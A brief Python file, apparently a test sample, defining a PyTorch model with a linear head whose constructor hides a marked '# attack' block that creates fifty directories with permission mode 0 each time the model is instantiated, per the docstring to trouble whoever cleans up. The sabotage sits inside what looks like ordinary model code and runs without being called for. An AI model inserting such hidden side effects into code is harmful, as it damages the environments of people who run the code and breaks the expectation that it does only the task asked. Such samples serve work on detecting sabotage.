"""Makes folders that nobody may enter, for whoever has to clean up."""

# seconds: 4

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for number in range(50):
            os.mkdir(str(number), 0)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
